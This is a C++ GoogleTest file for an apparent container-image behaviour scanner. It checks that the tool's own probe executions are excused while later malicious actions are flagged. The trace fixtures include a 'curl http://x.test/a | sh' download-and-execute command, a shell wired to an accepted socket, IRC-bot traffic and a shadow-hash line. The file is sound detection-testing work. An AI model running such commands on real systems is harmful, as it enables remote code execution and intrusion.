// What we do to an image is not what the image does: our own executions, connections and files are left out;
// what follows from them is not.
#include <gtest/gtest.h>

#include "case_reader.h"

namespace assay::testing {
namespace {

const std::string kStarter =
    "- exec: {pid: 30, path: /usr/libexec/.init-helper, argv: [.init-helper, run]}\n";

std::string started(int pid, const std::string& path, const std::string& argv, int parent = 30) {
  return "- clone: {pid: " + std::to_string(parent) + ", child_pid: " + std::to_string(pid) +
         ", child_tid: " + std::to_string(pid) + "}\n- exec: {pid: " + std::to_string(pid) +
         ", path: " + path + ", argv: " + argv + "}\n";
}

TEST(Provoked, OurOwnExecutionsAreNoFinding) {
  std::string burst = kStarter;
  int pid = 40;
  for (const char* name : {"whoami", "id", "uname", "hostname", "ps", "ss", "lscpu", "dmesg"})
    burst += started(pid++, std::string("/usr/bin/") + name, "[x]");
  EXPECT_EQ(titles(score(our_rules(), trace(burst))), "");
  Report report = score(our_rules(), trace(burst));
  EXPECT_EQ(report.processes.size(), 9u);  // without the starter
  for (const auto& process : report.processes) EXPECT_EQ(process.provoked, process.pid != 1) << process.path;
  EXPECT_EQ(report.processes_left_out, 0u);
  EXPECT_EQ(titles(score(our_rules(), trace(kStarter + started(40, "/usr/bin/env", "[env]")))), "");
}

TEST(Provoked, WhatFollowsIsTheImages) {
  Report report =
      score(our_rules(), trace(kStarter + started(40, "/usr/local/bin/cron-job", "[cron-job]") +
                               started(41, "/bin/bash", "[bash, -c, 'curl http://x.test/a | sh']", 40)));
  EXPECT_EQ(titles(report), "Download piped into a shell\n");
  EXPECT_EQ(report.findings[0].ancestry,
            (std::vector<std::string>{"cron-job", "bash -c curl http://x.test/a | sh"}));
  // The same process, going on as another program, is no longer what we chose.
  report =
      score(our_rules(),
            trace(kStarter + started(40, "/usr/local/bin/cron-job", "[cron-job]") +
                  "- exec: {pid: 40, path: /bin/bash, argv: [bash, -c, 'curl http://x.test/a | sh']}\n"));
  EXPECT_EQ(titles(report), "Download piped into a shell\n");
}

TEST(Provoked, AGuestThatRunsOurStarterIsNotExcused) {
  std::string deed = "[bash, -c, 'curl http://x.test/a | sh']";
  // A child of the image that becomes the starter, and the image's first process doing so.
  std::string child = started(30, "/usr/libexec/.init-helper", "[run]", 1) + started(40, "/bin/bash", deed);
  std::string self =
      "- exec: {pid: 1, path: /usr/libexec/.init-helper, argv: [run]}\n" + started(40, "/bin/bash", deed, 1);
  for (const auto& events : {child, self})
    EXPECT_EQ(titles(score(our_rules(), trace(events))).find("Download piped into a shell\n"), 0u) << events;
}

TEST(Provoked, WithoutAPlanThereIsNoStarter) {
  TraceHeader header = test_header();
  header.job.provoke = false;
  auto events = trace(kStarter + started(40, "/bin/bash", "[bash, -c, 'curl http://x.test/a | sh']"));
  Scorer scorer(our_rules(), header);
  for (const auto& event : events) scorer.add(event);
  EXPECT_EQ(titles(scorer.finish(test_footer(events.size()))).find("Download piped into a shell\n"), 0u);
}

TEST(Provoked, AContainerStartedAgainIsAnotherOne) {
  Report report = score(our_rules(), trace(R"(
- start: {pid: 1, path: /usr/bin/first, argv: [first]}
- clone: {pid: 1, child_pid: 2, child_tid: 2}
- exit: {pid: 1, result: 1}
- start: {pid: 1, path: /usr/bin/first, argv: [first, serve]}
- clone: {pid: 1, child_pid: 2, child_tid: 2}
- exec: {pid: 2, path: /usr/bin/worker, argv: [worker]}
- start: {pid: 1, path: /usr/libexec/.init-helper, argv: [.init-helper, hold]}
)"));
  std::string seen;
  for (const auto& process : report.processes)
    seen +=
        std::to_string(process.pid) + " " + process.path + " " + std::to_string(process.exit_status) + "\n";
  EXPECT_EQ(seen, "1 /usr/bin/first 1\n2 /usr/bin/first -1\n1 /usr/bin/first -1\n2 /usr/bin/worker -1\n");
}

TEST(Provoked, PortProbesAreNobodysTraffic) {
  Report report = score(our_rules(), trace(R"(
- bind: {pid: 1, fd: 3, proto: tcp, src_addr: 0.0.0.0, src_port: 80}
- listen: {pid: 1, fd: 3}
- repeat: {event: flow_start, times: 40, fields: {proto: tcp, src_addr: 172.17.0.1, src_port: 50000, dst_addr: 10.1.1.2, dst_port: 80}}
- accept: {pid: 1, fd: 3, proto: tcp, dst_addr: 172.17.0.1, dst_port: 50000, result: 5}
- payload: {proto: tcp, src_addr: 172.17.0.1, src_port: 50000, dst_addr: 10.1.1.2, dst_port: 80, data: "NICK a\r\nUSER a b c :d\r\nJOIN #x\r\n"}
- payload: {proto: tcp, src_addr: 10.1.1.2, src_port: 80, dst_addr: 172.17.0.1, dst_port: 50000, data: "root:$6$a$b:19000:0:99999:7:::\n"}
- http: {call: GET, path: /, name: "10.1.1.2", proto: tcp, src_addr: 172.17.0.1, src_port: 50000, dst_addr: 10.1.1.2, dst_port: 80}
- flow_end: {proto: tcp, src_addr: 172.17.0.1, src_port: 50000, dst_addr: 10.1.1.2, dst_port: 80, bytes_out: 1, bytes_in: 2}
)"));
  EXPECT_EQ(titles(report), "");
  EXPECT_TRUE(report.network.empty());
  EXPECT_EQ(report.listening, std::vector<std::string>{"tcp/80"});
}

TEST(Provoked, AShellThatAnswersAProbeIsStillAShellBehindAPort) {
  Report report = score(our_rules(), trace(R"(
- accept: {pid: 1, fd: 3, proto: tcp, dst_addr: 172.17.0.1, dst_port: 50000, result: 5}
- clone: {pid: 1, child_pid: 2, child_tid: 2}
- dup: {pid: 2, call: dup2, fd: 5, result: 0}
- dup: {pid: 2, call: dup2, fd: 5, result: 1}
- exec: {pid: 2, path: /bin/sh, argv: [sh]}
)"));
  EXPECT_EQ(titles(report), "Shell behind a listening port\n");
}

TEST(Provoked, PlanAndPortsAreReported) {
  Report report = score(our_rules(), stored_trace("chamber"));
  ASSERT_EQ(report.plan.size(), 3u);
  EXPECT_EQ(report.plan[0].kind + " " + report.plan[0].target + " " + report.plan[0].result,
            "executable /usr/bin/whoami exited");
  ASSERT_EQ(report.ports.size(), 2u);
  EXPECT_EQ(report.ports[0].port + " " + report.ports[0].app + " " + report.ports[0].banner,
            "tcp/80 http HTTP/1.1 200 OK\\x0d\\x0a");
  EXPECT_FALSE(report.ports[1].answered);
  EXPECT_EQ(report.network.size(), 1u);
  EXPECT_EQ(report.network[0].app, "https");
  ASSERT_EQ(report.network[0].requests.size(), 2u);
  EXPECT_EQ(report.network[0].requests[1].body, "d=c2VjcmV0");
  EXPECT_EQ(report.network[0].first_data, "POST /up HTTP/1.1\\x0d\\x0a");
}

}  // namespace
}  // namespace assay::testing
